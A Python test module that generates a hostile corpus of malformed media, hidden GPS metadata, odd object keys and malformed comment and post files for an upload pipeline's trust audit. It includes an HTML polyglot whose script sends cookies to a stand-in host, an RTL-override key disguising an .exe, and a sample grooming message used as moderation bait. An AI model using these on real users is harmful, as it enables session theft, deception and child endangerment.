"""A second hostile corpus, by class, for the trust audit (tests/integration/test_trust_audit.py): media,
comment batches, post files and object keys that the first corpus (media_corpus.py) does not have.

Every case is generated (fixed seeds, no timestamps, no binary blobs in git) and says what the pipeline owes
it: ``HELD`` (a ``review`` or stricter with a reason, never published), or ``ANY`` (any terminal verdict; an
``allow`` publishes only bytes without a location). ``full=False`` returns a deterministic sample of the
larger sweeps (truncation at every marker boundary) so ``make test`` stays fast; ``TUTELA_TRUST_SWEEP=1``
runs them all.
"""

from __future__ import annotations

import io
import json
import struct
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from tests.hostile.media_corpus import _box, _chunk, _gps_exif, _pixels, _seg, _xmp, jpeg, mp4, png, webp

HELD, ANY = "held", "any"
PNG_SIG = b"\x89PNG\r\n\x1a\n"


@dataclass(frozen=True, slots=True)
class Case:
    cls: str  # the hostile class, for the report's counts
    name: str
    key: str  # the upload key (media/..., comments/..., posts/...)
    build: Callable[[], bytes]
    expect: str  # HELD | ANY


# -- structure walkers (to cut files at every marker boundary) ------------------------------------------


def jpeg_boundaries(data: bytes) -> list[int]:
    """Offsets where a JPEG marker segment starts (SOI excluded), up to and including EOI."""
    out, i = [], 2
    while i + 4 <= len(data) and data[i] == 0xFF:
        marker = data[i + 1]
        out.append(i)
        if marker == 0xD9:
            break
        if marker == 0xDA:  # entropy-coded data: find the next real marker
            j = i + 2 + struct.unpack(">H", data[i + 2 : i + 4])[0]
            while j + 1 < len(data) and not (
                data[j] == 0xFF and data[j + 1] not in (0x00, *range(0xD0, 0xD8))
            ):
                j += 1
            i = j
            continue
        i += 2 + struct.unpack(">H", data[i + 2 : i + 4])[0]
    return out


def png_boundaries(data: bytes) -> list[int]:
    out, i = [], 8
    while i + 8 <= len(data):
        out.append(i)
        i += 12 + struct.unpack(">I", data[i : i + 4])[0]
    return out


def riff_boundaries(data: bytes) -> list[int]:
    out, i = [12], 12
    while i + 8 <= len(data):
        size = struct.unpack("<I", data[i + 4 : i + 8])[0]
        i += 8 + size + (size & 1)
        out.append(i)
    return [b for b in out if b < len(data)]


def box_boundaries(data: bytes, start: int = 0, end: int | None = None, depth: int = 0) -> list[int]:
    """Top-level (and moov/trak/mdia/minf/stbl/meta) box starts of an ISOBMFF file."""
    end = len(data) if end is None else end
    out, i = [], start
    while i + 8 <= end:
        size, kind = struct.unpack(">I4s", data[i : i + 8])
        if size < 8:
            break
        out.append(i)
        if kind in (b"moov", b"trak", b"mdia", b"minf", b"stbl") and depth < 5:
            out += box_boundaries(data, i + 8, i + size, depth + 1)
        if kind == b"meta" and depth < 5:
            out += box_boundaries(data, i + 12, i + size, depth + 1)
        i += size
    return sorted(set(b for b in out if 0 < b < len(data)))


def boxes(data: bytes) -> list[tuple[int, int, bytes]]:
    out, i = [], 0
    while i + 8 <= len(data):
        size, kind = struct.unpack(">I4s", data[i : i + 8])
        out.append((i, size, kind))
        if size < 8:
            break
        i += size
    return out


# -- media builders -------------------------------------------------------------------------------------


def _pil(fmt: str, mode: str, w: int = 64, h: int = 48, **kw: object) -> bytes:
    from PIL import Image

    im = Image.fromarray(_pixels(h, w, 11))
    im = im.convert(mode) if mode != "RGB" else im
    buf = io.BytesIO()
    im.save(buf, fmt, **kw)
    return buf.getvalue()


def png_raw(w: int, h: int, depth: int, color: int, rows: bytes, *, extra: bytes = b"") -> bytes:
    ihdr = struct.pack(">IIBBBBB", w, h, depth, color, 0, 0, 0)
    return (
        PNG_SIG + _chunk(b"IHDR", ihdr) + extra + _chunk(b"IDAT", zlib.compress(rows)) + _chunk(b"IEND", b"")
    )


def png_16bit() -> bytes:
    rows = b"".join(b"\x00" + bytes((x * 7 + y) % 256 for x in range(64 * 6)) for y in range(48))
    return png_raw(64, 48, 16, 2, rows)


def png_grey_alpha() -> bytes:
    rows = b"".join(b"\x00" + bytes((x + y) % 256 for x in range(64 * 2)) for y in range(48))
    return png_raw(64, 48, 8, 4, rows)


def png_palette_alpha() -> bytes:
    plte = bytes(c for i in range(16) for c in (i * 16, 255 - i * 16, i * 8))
    trns = bytes(range(0, 256, 16))
    rows = b"".join(b"\x00" + bytes((x // 4 + y) % 16 for x in range(64)) for y in range(48))
    return png_raw(64, 48, 8, 3, rows, extra=_chunk(b"PLTE", plte) + _chunk(b"tRNS", trns))


def png_1bit() -> bytes:
    rows = b"".join(b"\x00" + bytes(0xAA if y % 2 else 0x55 for _ in range(8)) for y in range(48))
    return png_raw(64, 48, 1, 0, rows)


def png_wide(w: int, h: int) -> bytes:
    rows = b"".join(b"\x00" + bytes(w * 3) for _ in range(h))
    return png_raw(w, h, 8, 2, rows)


def png_html_polyglot() -> bytes:
    html = b"<html><body><script>fetch('https://x.example/?'+document.cookie)</script></body></html>"
    return png() + html


def png_huge_declared() -> bytes:
    return png_raw(0x7FFFFFFF, 0x7FFFFFFF, 8, 2, b"\x00" * 16)


def png_plte_huge() -> bytes:
    ihdr = struct.pack(">IIBBBBB", 4, 4, 8, 3, 0, 0, 0)
    return PNG_SIG + _chunk(b"IHDR", ihdr) + struct.pack(">I", 0xFFFFFF00) + b"PLTE" + b"\x00" * 20


def jpeg_cmyk() -> bytes:
    return _pil("JPEG", "CMYK", quality=85)


def jpeg_grey() -> bytes:
    return _pil("JPEG", "L", quality=85)


def jpeg_dims(w: int, h: int) -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.new("RGB", (w, h), (90, 120, 150)).save(buf, "JPEG", quality=80, exif=_gps_exif())
    return buf.getvalue()


def jpeg_sof_declared(w: int, h: int) -> bytes:
    d = bytearray(jpeg(4, gps=False))
    i = d.index(b"\xff\xc0")
    d[i + 5 : i + 9] = struct.pack(">HH", h, w)
    return bytes(d)


# The latitude 51°30'2.5" as EXIF rationals (little endian): must never be in a published byte.
LAT_RATIONALS = struct.pack("<6I", 51, 1, 30, 1, 250, 100)


def _gps_ifd(at: int) -> bytes:
    """A GPS IFD at offset ``at`` of a little-endian TIFF: LatitudeRef N and Latitude (its values follow)."""
    gps = struct.pack("<H", 2) + struct.pack("<HHI", 1, 2, 2) + b"N\0\0\0"
    return gps + struct.pack("<HHII", 2, 5, 3, at + 2 + 24 + 4) + struct.pack("<I", 0) + LAT_RATIONALS


def _exif_ifd1_gps() -> bytes:
    """A TIFF (EXIF) block whose GPS IFD hangs off IFD1 (the thumbnail's IFD), not IFD0."""
    ifd0 = struct.pack("<H", 1) + struct.pack("<HHII", 274, 3, 1, 1)
    ifd1_at = 8 + len(ifd0) + 4
    gps_at = ifd1_at + 2 + 12 + 4
    ifd1 = struct.pack("<H", 1) + struct.pack("<HHII", 0x8825, 4, 1, gps_at) + struct.pack("<I", 0)
    return b"II*\x00" + struct.pack("<I", 8) + ifd0 + struct.pack("<I", ifd1_at) + ifd1 + _gps_ifd(gps_at)


def jpeg_gps_in_interop() -> bytes:
    """IFD0 -> Exif IFD -> Interop IFD holding InteropIndex and a GPS pointer (exiftool follows it)."""
    exif_at, inter_at = 8 + 18, 8 + 36
    gps_at = inter_at + 2 + 24 + 4
    ifd0 = struct.pack("<H", 1) + struct.pack("<HHII", 0x8769, 4, 1, exif_at) + struct.pack("<I", 0)
    exif_ifd = struct.pack("<H", 1) + struct.pack("<HHII", 0xA005, 4, 1, inter_at) + struct.pack("<I", 0)
    interop = struct.pack("<H", 2) + struct.pack("<HHI", 1, 2, 4) + b"R98\0"
    interop += struct.pack("<HHII", 0x8825, 4, 1, gps_at) + struct.pack("<I", 0)
    tiff = b"II*\0" + struct.pack("<I", 8) + ifd0 + exif_ifd + interop + _gps_ifd(gps_at)
    d = jpeg(5, gps=False)
    return d[:2] + _seg(0xE1, b"Exif\x00\x00" + tiff) + d[2:]


def jpeg_jfif_thumbnail() -> bytes:
    """A JFIF APP0 with a 16x12 RGB thumbnail: an image nobody scanned."""
    rgb = bytes(range(256)) * 2 + bytes(16 * 12 * 3 - 512)
    d = jpeg(7, gps=False)
    i = d.index(b"\xff\xdb")
    return d[:i] + _seg(0xE0, b"JFIF\x00\x01\x02\x00\x00\x01\x00\x01\x10\x0c" + rgb) + d[i:]


def jpeg_gps_in_ifd1() -> bytes:
    d = jpeg(5, gps=False)
    return d[:2] + _seg(0xE1, b"Exif\x00\x00" + _exif_ifd1_gps()) + d[2:]


def jpeg_thumbnail_with_gps() -> bytes:
    """EXIF whose IFD1 thumbnail is itself a JPEG carrying GPS EXIF."""
    from PIL import Image

    thumb = jpeg(6, gps=True, w=16, h=12)
    ex = Image.Exif()
    ex[274] = 1
    base = bytes(ex.tobytes())[6:]  # TIFF header + IFD0 (next-IFD offset 0 at the end of IFD0)
    n = struct.unpack("<H", base[8:10])[0]
    next_at = 8 + 2 + 12 * n
    ifd1_at = len(base)
    ifd1 = struct.pack("<H", 2)
    thumb_at = ifd1_at + 2 + 24 + 4
    ifd1 += struct.pack("<HHII", 0x0201, 4, 1, thumb_at) + struct.pack("<HHII", 0x0202, 4, 1, len(thumb))
    ifd1 += struct.pack("<I", 0)
    tiff = base[:next_at] + struct.pack("<I", ifd1_at) + base[next_at + 4 :] + ifd1 + thumb
    d = jpeg(6, gps=False)
    return d[:2] + _seg(0xE1, b"Exif\x00\x00" + tiff) + d[2:]


def jpeg_makernote_gps() -> bytes:
    from PIL import Image

    ex = Image.Exif()
    ex[274] = 1
    ex.get_ifd(0x8769)[37500] = b"Nikon\x00GPS 51.50072N 0.12462W " + bytes(_gps_exif())
    buf = io.BytesIO()
    Image.fromarray(_pixels(48, 64, 8)).save(buf, "JPEG", exif=ex.tobytes())
    return buf.getvalue()


def jpeg_xmp_gps() -> bytes:
    d = jpeg(3, gps=False)
    return d[:2] + _seg(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + _xmp()) + d[2:]


def jpeg_zip_polyglot() -> bytes:
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr(zipfile.ZipInfo("a.txt", date_time=(2020, 1, 1, 0, 0, 0)), b"lat=51.5 lon=-0.12")
    return jpeg(1) + buf.getvalue()


def gif_animated(frames: int = 120) -> bytes:
    from PIL import Image

    ims = [Image.fromarray(_pixels(24, 32, i)).convert("P") for i in range(frames)]
    buf = io.BytesIO()
    ims[0].save(buf, "GIF", save_all=True, append_images=ims[1:], duration=20, loop=0)
    return buf.getvalue()


def _patch_stco(moov: bytes, delta: int, *, count: int | None = None) -> bytes:
    """Shift every stco offset by ``delta`` (or set its entry count to ``count``, lying about the table)."""
    out = bytearray(moov)
    i = 0
    while (i := out.find(b"stco", i)) >= 0:
        n = struct.unpack(">I", out[i + 8 : i + 12])[0]
        if count is not None:
            out[i + 8 : i + 12] = struct.pack(">I", count)
        else:
            for k in range(n):
                at = i + 12 + 4 * k
                out[at : at + 4] = struct.pack(">I", struct.unpack(">I", out[at : at + 4])[0] + delta)
        i += 4
    return bytes(out)


_MP4: bytes | None = None


def _mp4() -> bytes:
    global _MP4
    if _MP4 is None:
        _MP4 = mp4(3)
    return _MP4


def mp4_parts() -> dict[bytes, bytes]:
    d = _mp4()
    return {kind: d[at : at + size] for at, size, kind in boxes(d)}


def mp4_moov_first() -> bytes:
    """Fast-start layout: moov before mdat (stco shifted by moov's size)."""
    d = _mp4()
    parts = boxes(d)
    moov = next(d[a : a + s] for a, s, k in parts if k == b"moov")
    rest = b"".join(d[a : a + s] for a, s, k in parts if k not in (b"moov",))
    ftyp_len = next(s for a, s, k in parts if k == b"ftyp")
    moov = _patch_stco(moov, len(moov))
    return rest[:ftyp_len] + moov + rest[ftyp_len:]


def mp4_stco(count: int) -> bytes:
    d = _mp4()
    i = d.index(b"moov") - 4
    size = struct.unpack(">I", d[i : i + 4])[0]
    return d[:i] + _patch_stco(d[i : i + size], 0, count=count) + d[i + size :]


def mp4_zero_stco() -> bytes:
    """stco with zero entries (box shrunk to match): a video with no samples to scan."""
    d = bytearray(_mp4())
    i = d.index(b"stco")
    n = struct.unpack(">I", d[i + 8 : i + 12])[0]
    cut = 4 * n
    d[i + 8 : i + 12] = b"\x00\x00\x00\x00"
    del d[i + 12 : i + 12 + cut]
    # shrink stco and every enclosing box (moov/trak/mdia/minf/stbl) by ``cut``
    for kind in (b"stco", b"stbl", b"minf", b"mdia", b"trak", b"moov"):
        j = d.index(kind) - 4 if kind != b"stco" else i - 4
        size = struct.unpack(">I", d[j : j + 4])[0]
        d[j : j + 4] = struct.pack(">I", size - cut)
    return bytes(d)


def mp4_largesize() -> bytes:
    """A box with a 64-bit size (size field 1) claiming 2^62 bytes."""
    return _mp4() + struct.pack(">I4sQ", 1, b"free", 1 << 62)


def mp4_size_zero_box() -> bytes:
    """A final box of size 0 (runs to the end of the file: legal)."""
    return _mp4() + struct.pack(">I4s", 0, b"free") + b"\x00" * 32


def mp4_udta_xyz() -> bytes:
    """moov/udta/©xyz with coordinates (what phones write)."""
    d = _mp4()
    i = d.index(b"moov") - 4
    size = struct.unpack(">I", d[i : i + 4])[0]
    xyz = _box(b"\xa9xyz", struct.pack(">HH", 18, 0x15C7) + b"+51.5007-000.1246/")
    udta = _box(b"udta", xyz)
    moov = struct.pack(">I", size + len(udta)) + d[i + 4 : i + size] + udta
    return d[:i] + moov + d[i + size :]


def _grow_mdat(d: bytes, extra: bytes) -> bytes:
    """``extra`` appended inside the (first) mdat: no sample offset moves, whichever box comes first."""
    at, size = next((a, n) for a, n, k in boxes(d) if k == b"mdat")
    return d[:at] + struct.pack(">I", size + len(extra)) + d[at + 4 : at + size] + extra + d[at + size :]


def mp4_dashcam_freegps() -> bytes:
    """Novatek dashcam GPS ("freeGPS " blocks) in mdat, referenced by nothing: exiftool -ee scans for them."""
    rec = b"ANE\x00" + struct.pack("<4f", 5130.0, 7.5, 10.0, 90.0) + bytes(12)
    block = (b"\x00\x00\x01\x00freeGPS " + bytes(4) + rec).ljust(256, b"\x00")
    return _grow_mdat(_mp4(), (block + bytes(1024)) * 40)


def mp4_top_level_nmea() -> bytes:
    """A dashcam's top-level 'udat' box: an NMEA GPS log exiftool reads (no player needs the box)."""
    nmea = b"$GPRMC,123519,A,5130.000,N,00007.500,W,022.4,084.4,230394,003.1,W*6A\n"
    return _mp4() + _box(b"udat", nmea * 4)


def mp4_insta360_trailer() -> bytes:
    """An Insta360 GPS trailer inside mdat, at the file's end where exiftool -ee looks for it."""
    rec = struct.pack("<IIH", 1600000000, 0, 0) + b"A" + struct.pack("<d", 51.5) + b"N"
    rec += struct.pack("<d", 0.12) + b"W" + struct.pack("<3d", 1.0, 2.0, 3.0)
    footer = struct.pack("<HI", 0x700, len(rec)).ljust(38, b"\x00") + struct.pack("<I", 6 + len(rec) + 78)
    trailer = bytes(6) + rec + footer.ljust(46, b"\x00") + b"8db42d694ccc418790edff439fe026bf"
    d = _mp4()
    last = boxes(d)[-1]
    if last[2] != b"mdat":  # the trailer must end the file, inside its last box
        d = d + _box(b"mdat", b"")
    return _grow_mdat_last(d, trailer)


def _grow_mdat_last(d: bytes, extra: bytes) -> bytes:
    at, size, kind = boxes(d)[-1]
    assert kind == b"mdat" and at + size == len(d)
    return d[:at] + struct.pack(">I", size + len(extra)) + d[at + 4 :] + extra


def heic_bytes() -> bytes:
    from tests.hostile.media_corpus import heic

    data = heic()
    if data is None:
        raise RuntimeError("pillow-heif is not installed")
    return data


def webp_lossy() -> bytes:
    from PIL import Image

    buf = io.BytesIO()
    Image.fromarray(_pixels(48, 64, 4)).save(buf, "WEBP", quality=70, exif=_gps_exif())
    return buf.getvalue()


def webp_vp8l_huge() -> bytes:
    """A lossless WebP header declaring 16384x16384 with a few bytes of payload."""
    bits = (16383) | (16383 << 14)
    body = b"\x2f" + struct.pack("<I", bits) + b"\x00" * 8
    chunk = b"VP8L" + struct.pack("<I", len(body)) + body
    return b"RIFF" + struct.pack("<I", 4 + len(chunk)) + b"WEBP" + chunk


def tiff_huge_declared() -> bytes:
    tags = [(256, 4, 1, 1_000_000), (257, 4, 1, 1_000_000), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1),
            (273, 4, 1, 8), (277, 3, 1, 1), (279, 4, 1, 8)]  # fmt: skip
    body = struct.pack("<H", len(tags))
    for tag, typ, count, val in tags:
        body += struct.pack("<HHI", tag, typ, count) + (
            struct.pack("<HH", val, 0) if typ == 3 else struct.pack("<I", val)
        )
    return b"II*\x00" + struct.pack("<I", 16) + b"\x00" * 8 + body + b"\x00" * 4


def _truncations(
    fmt: str, data: bytes, cuts: list[int], ext: str, full: bool
) -> Iterator[tuple[str, Callable[[], bytes]]]:
    cuts = sorted(set(c for c in cuts if 0 < c < len(data)))
    if not full:  # the first, the middle and the last boundary: the sample in `make test`
        cuts = sorted(set(cuts[:1] + cuts[len(cuts) // 2 : len(cuts) // 2 + 1] + cuts[-1:]))
    for c in cuts:
        yield f"{fmt}_cut_at_{c}{ext}", (lambda c=c: data[:c])


def media_cases(full: bool = False) -> list[Case]:
    j, p, w, m, h = jpeg(2), png(3), webp(), _mp4(), heic_bytes()
    cases: list[Case] = []

    def add(cls: str, name: str, build: Callable[[], bytes], expect: str, key: str | None = None) -> None:
        cases.append(Case(cls, name, key or f"media/trust/{name}", build, expect))

    # empty and one byte
    add("tiny", "empty.jpg", lambda: b"", HELD)
    for first, ext in ((b"\xff", ".jpg"), (b"\x89", ".png"), (b"R", ".webp"), (b"\x00", ".mp4")):
        add("tiny", f"one_byte{ext}", lambda first=first: first, HELD)
    # truncated at every marker/chunk/box boundary
    for name, build in _truncations("jpeg", j, jpeg_boundaries(j), ".jpg", full):
        add("truncated", name, build, HELD)
    for name, build in _truncations("png", p, png_boundaries(p), ".png", full):
        add("truncated", name, build, HELD)
    for name, build in _truncations("webp", w, [*riff_boundaries(w), 20, 30], ".webp", full):
        add("truncated", name, build, HELD)
    for name, build in _truncations("heic", h, box_boundaries(h), ".heic", full):
        add("truncated", name, build, HELD)
    for name, build in _truncations("mp4", m, box_boundaries(m), ".mp4", full):
        add("truncated", name, build, HELD)
    # wrong extension for the content (sniffed from bytes: judged as what it is)
    add("wrong_ext", "png_named.jpg", lambda: png(4), ANY)
    add("wrong_ext", "jpeg_named.mp4", lambda: jpeg(4), ANY)
    add("wrong_ext", "mp4_named.png", lambda: m, ANY)
    add("wrong_ext", "webp_named.heic", lambda: w, ANY)
    add("wrong_ext", "jpeg_no_extension", lambda: jpeg(4), ANY)
    # polyglots
    add("polyglot", "jpeg_zip.jpg", jpeg_zip_polyglot, ANY)
    add("polyglot", "png_html.png", png_html_polyglot, ANY)
    add("polyglot", "html_then_png.png", lambda: b"<html>" + png(), HELD)
    # declared dimensions vs payload; extreme shapes
    add("dimensions", "png_2g_by_2g.png", png_huge_declared, HELD)
    add("dimensions", "png_plte_lies.png", png_plte_huge, HELD)
    add("dimensions", "jpeg_65535x65535_tiny.jpg", lambda: jpeg_sof_declared(65535, 65535), HELD)
    add("dimensions", "webp_vp8l_16k.webp", webp_vp8l_huge, HELD)
    add("dimensions", "tiff_1e6_square.tif", tiff_huge_declared, HELD)
    add("dimensions", "jpeg_1x1.jpg", lambda: jpeg_dims(1, 1), ANY)
    add("dimensions", "png_1x1.png", lambda: png_wide(1, 1), ANY)
    add("dimensions", "png_65535x1.png", lambda: png_wide(65535, 1), ANY)
    add("dimensions", "png_1x65535.png", lambda: png_wide(1, 65535), ANY)
    add("dimensions", "jpeg_65500x1.jpg", lambda: jpeg_dims(65500, 1), ANY)
    # colour models and depths
    add("colour", "jpeg_cmyk.jpg", jpeg_cmyk, ANY)
    add("colour", "jpeg_grey.jpg", jpeg_grey, ANY)
    add("colour", "jpeg_progressive_gps.jpg", lambda: jpeg(8, progressive=True), ANY)
    add("colour", "png_16bit.png", png_16bit, ANY)
    add("colour", "png_grey_alpha.png", png_grey_alpha, ANY)
    add("colour", "png_palette_alpha.png", png_palette_alpha, ANY)
    add("colour", "png_1bit.png", png_1bit, ANY)
    add("colour", "webp_lossy_gps.webp", webp_lossy, ANY)
    add("colour", "gif_120_frames.gif", gif_animated, HELD)
    # video structure
    add("video", "mp4_moov_first.mp4", mp4_moov_first, ANY)
    add(
        "video",
        "mp4_missing_moov.mp4",
        lambda: b"".join(v for k, v in mp4_parts().items() if k != b"moov"),
        HELD,
    )
    add("video", "mp4_zero_stco.mp4", mp4_zero_stco, HELD)
    add("video", "mp4_stco_lies.mp4", lambda: mp4_stco(0x3FFFFFFF), HELD)
    add("video", "mp4_largesize_2e62.mp4", mp4_largesize, HELD)
    add("video", "mp4_size_zero_tail.mp4", mp4_size_zero_box, ANY)
    add("video", "mp4_udta_xyz.mp4", mp4_udta_xyz, ANY)
    add("video", "mp4_dashcam_freegps.mp4", mp4_dashcam_freegps, ANY)
    add("video", "mp4_top_level_nmea.mp4", mp4_top_level_nmea, ANY)
    add("video", "mp4_insta360_trailer.mp4", mp4_insta360_trailer, HELD)
    # location in odd places
    add("exif", "jpeg_gps_in_ifd1.jpg", jpeg_gps_in_ifd1, ANY)
    add("exif", "jpeg_gps_in_interop.jpg", jpeg_gps_in_interop, ANY)
    add("exif", "jpeg_jfif_thumbnail.jpg", jpeg_jfif_thumbnail, ANY)
    add("exif", "jpeg_thumbnail_gps.jpg", jpeg_thumbnail_with_gps, ANY)
    add("exif", "jpeg_makernote_gps.jpg", jpeg_makernote_gps, ANY)
    add("exif", "jpeg_xmp_gps.jpg", jpeg_xmp_gps, ANY)
    add(
        "exif",
        "png_itxt_xmp.png",
        lambda: png(extra=_chunk(b"iTXt", b"XML:com.adobe.xmp\x00\x00\x00\x00\x00" + _xmp())),
        ANY,
    )
    # keys
    photo = jpeg(9)
    for name, key in (
        ("unicode", "media/pöst-😀/фото 照片.jpg"),
        ("spaces", "media/p 1/my photo.jpg"),
        ("percent", "media/p%201/a%2Fb%00.jpg"),
        ("plus", "media/p+1/a+b=c&d.jpg"),
        ("long", "media/p/" + "x" * 1000 + ".jpg"),
        ("long_unicode", "media/p/" + "照" * 330 + ".jpg"),
        ("rtl_override", "media/p/\u202egpj.exe"),
        ("newline", "media/p/a\nb.jpg"),
    ):
        add("key", f"key_{name}", lambda: photo, ANY, key=key)
    add("key", "key_zero_bytes", lambda: b"", HELD, key="media/p/empty object.jpg")
    add("key", "key_folder_marker", lambda: b"", HELD, key="media/p/")  # the console's "create folder"
    add("key", "key_other_prefix", lambda: photo, HELD, key="uploads/p/a.jpg")
    add("key", "key_post_upper_ext", lambda: _post(), ANY, key="posts/p9.JSON")
    add("key", "key_post_no_id", lambda: _post(), ANY, key="posts/.json")
    add("key", "key_post_deep", lambda: _post(), ANY, key="posts/a/b/c.json")
    add(
        "key",
        "key_comments_upper_ext",
        lambda: _line({"id": "1", "text": "hi"}),
        ANY,
        key="comments/p/b.JSONL",
    )
    add(
        "key",
        "key_comments_deep",
        lambda: _line({"id": "1", "text": "hi"}),
        ANY,
        key="comments/p/a/b/c.jsonl",
    )
    return cases


# -- comment batches ------------------------------------------------------------------------------------

GROOM = "how old r u? add me on snap, dont tell ur parents"


def _line(obj: object) -> bytes:
    return json.dumps(obj, ensure_ascii=False).encode()


def _nest(depth: int) -> bytes:
    return b'{"id": "deep", "text": "x", "n": ' + b"[" * depth + b"]" * depth + b"}"


def comment_cases(full: bool = False) -> list[Case]:
    ok = _line({"id": "c1", "text": "lovely light"})
    bad = _line({"id": "c2", "text": GROOM})
    batches: list[tuple[str, Callable[[], bytes], str]] = [
        ("bom", lambda: b"\xef\xbb\xbf" + ok + b"\n" + bad + b"\n", ANY),
        ("nul_in_text", lambda: b'{"id": "n", "text": "a\\u0000b"}\n' + ok + b"\n", ANY),
        ("raw_nul_byte", lambda: ok + b"\n\x00\n" + bad + b"\n", ANY),
        ("lone_surrogate_text", lambda: b'{"id": "s", "text": "hi \\ud800 there"}\n' + ok + b"\n", ANY),
        ("lone_surrogate_id", lambda: b'{"id": "\\udfff", "text": "hi"}\n' + ok + b"\n", ANY),
        (
            "surrogate_pair_split",
            lambda: b'{"id": "p", "text": "\\ud83d"}\n{"id": "q", "text": "\\ude00"}\n',
            ANY,
        ),
        ("crlf", lambda: ok + b"\r\n" + bad + b"\r\n", ANY),
        ("cr_only", lambda: ok + b"\r" + bad + b"\r", ANY),
        ("blank_100k", lambda: ok + b"\n" * 100_000 + bad + b"\n", ANY),
        ("one_10mb_line", lambda: b'{"id": "big", "text": "' + b"a" * (10 << 20) + b'"}\n', HELD),
        ("deep_nesting", lambda: _nest(100_000) + b"\n" + ok + b"\n", ANY),
        ("huge_int", lambda: b'{"id": 1' + b"0" * 5000 + b', "text": "hi"}\n' + ok + b"\n", ANY),
        ("huge_float", lambda: b'{"id": "f", "text": "hi", "score": 1e999999}\n' + ok + b"\n", ANY),
        ("nan", lambda: b'{"id": NaN, "text": "hi"}\n' + ok + b"\n", ANY),
        (
            "duplicate_ids",
            lambda: b"\n".join(_line({"id": "same", "text": t}) for t in ("hi", GROOM, "ok")),
            ANY,
        ),
        (
            "non_objects",
            lambda: b'"just a string"\n42\nnull\ntrue\n[{"id":"x","text":"hi"}]\n' + ok + b"\n",
            ANY,
        ),
        ("latin1_line", lambda: ok + b"\n" + '{"id": "l", "text": "café"}'.encode("latin-1") + b"\n", ANY),
        ("utf16_file", lambda: (ok.decode() + "\n" + bad.decode() + "\n").encode("utf-16"), HELD),
        ("gbk_line", lambda: ok + b"\n" + '{"id": "g", "text": "你好"}'.encode("gbk") + b"\n", ANY),
        ("only_blank", lambda: b"\n\n  \n\t\n", ANY),
        ("empty", lambda: b"", ANY),
        ("no_final_newline", lambda: ok + b"\n" + bad, ANY),
        ("vertical_tab_ff", lambda: ok + b"\x0b" + bad + b"\x0c\n", ANY),
        ("unicode_line_seps", lambda: _line({"id": "u", "text": "a\u2028b\u2029c\x85d"}) + b"\n", ANY),
        ("text_is_object", lambda: b'{"id": "o", "text": {"text": "hi"}}\n', HELD),
        ("many_lines", lambda: b"\n".join(_line({"id": str(i), "text": "ok"}) for i in range(20_001)), HELD),
        (
            "id_types",
            lambda: b'{"id": true, "text": "a"}\n{"id": 1.5, "text": "b"}\n{"id": -0, "text": "c"}\n',
            ANY,
        ),
        (
            "minor_context_string",
            lambda: _line({"id": "m", "text": "so sexy", "minor_context": "true"}) + b"\n",
            ANY,
        ),
    ]
    return [
        Case("comments", name, f"comments/trust-{name}/batch.jsonl", build, expect)
        for name, build, expect in batches
    ]


# -- posts ----------------------------------------------------------------------------------------------


def _post(**fields: object) -> bytes:
    return json.dumps({"caption": "sunny day", **fields}, ensure_ascii=False).encode()


def post_cases(full: bool = False) -> list[Case]:
    posts: list[tuple[str, Callable[[], bytes], str]] = [
        ("bom", lambda: b"\xef\xbb\xbf" + _post(), ANY),
        ("nul", lambda: b'{"caption": "a\\u0000b"}', ANY),
        ("lone_surrogate", lambda: b'{"caption": "hi \\ud800"}', ANY),
        ("lone_surrogate_tag", lambda: b'{"caption": "hi", "hashtags": ["\\udc00"]}', ANY),
        ("lone_surrogate_place", lambda: b'{"caption": "hi", "location": {"name": "\\ud800"}}', ANY),
        ("crlf_pretty", lambda: json.dumps({"caption": "hi"}, indent=2).replace("\n", "\r\n").encode(), ANY),
        (
            "deep_nesting",
            lambda: b'{"caption": "x", "extra": ' + b"[" * 100_000 + b"]" * 100_000 + b"}",
            HELD,
        ),
        (
            "huge_int_lat",
            lambda: b'{"caption": "x", "location": {"lat": 1' + b"0" * 5000 + b', "lon": 1}}',
            HELD,
        ),
        ("huge_float_lat", lambda: b'{"caption": "x", "location": {"lat": 1e999, "lon": 1}}', HELD),
        ("nan_lat", lambda: b'{"caption": "x", "location": {"lat": NaN, "lon": 1}}', HELD),
        ("bool_lat", lambda: b'{"caption": "x", "location": {"lat": true, "lon": false}}', HELD),
        ("string_lat", lambda: b'{"caption": "x", "location": {"lat": "48.8", "lon": "2.2"}}', HELD),
        ("lat_only", lambda: _post(location={"lat": 48.85837}), HELD),
        ("duplicate_caption", lambda: b'{"caption": "nice", "caption": "' + GROOM.encode() + b'"}', HELD),
        ("duplicate_nested", lambda: b'{"caption": "x", "location": {"lat": 1, "lat": 2, "lon": 3}}', HELD),
        ("not_object", lambda: b'["caption", "x"]', HELD),
        ("null", lambda: b"null", HELD),
        ("empty", lambda: b"", HELD),
        ("whitespace", lambda: b"  \n ", HELD),
        ("two_documents", lambda: _post() + b"\n" + _post(), HELD),
        ("latin1", lambda: '{"caption": "café"}'.encode("latin-1"), HELD),
        ("utf16", lambda: _post().decode().encode("utf-16"), HELD),
        ("caption_object", lambda: b'{"caption": {"text": "x"}}', HELD),
        ("hashtags_string", lambda: b'{"caption": "x", "hashtags": "#a #b"}', HELD),
        ("hashtags_many", lambda: _post(hashtags=[f"t{i}" for i in range(10_000)]), HELD),
        ("hashtag_objects", lambda: _post(hashtags=[{"t": 1}]), HELD),
        ("over_64k", lambda: _post(caption="a " * 40_000), HELD),
        ("caption_5001", lambda: _post(caption="b" * 5001), HELD),
        ("post_id_mismatch", lambda: _post(post_id="someone-else"), HELD),
        ("post_id_number", lambda: _post(post_id=123), HELD),
        ("bidi_caption", lambda: _post(caption="\u202e" + GROOM[::-1]), HELD),
        ("location_list", lambda: _post(location=[48.8, 2.2]), HELD),
        ("lat_out_of_range", lambda: _post(location={"lat": 91, "lon": 0}), HELD),
        ("neg_zero_coords", lambda: _post(location={"lat": -0.0, "lon": -0.0}), ANY),
        ("unknown_fields", lambda: _post(uploader="u", secret=GROOM, exif={"lat": 1}), ANY),
        ("nul_key", lambda: b'{"caption": "x", "\\u0000": 1}', ANY),
    ]
    return [Case("posts", name, f"posts/trust-{name}.json", build, expect) for name, build, expect in posts]


def all_cases(full: bool = False) -> list[Case]:
    return media_cases(full) + comment_cases(full) + post_cases(full)
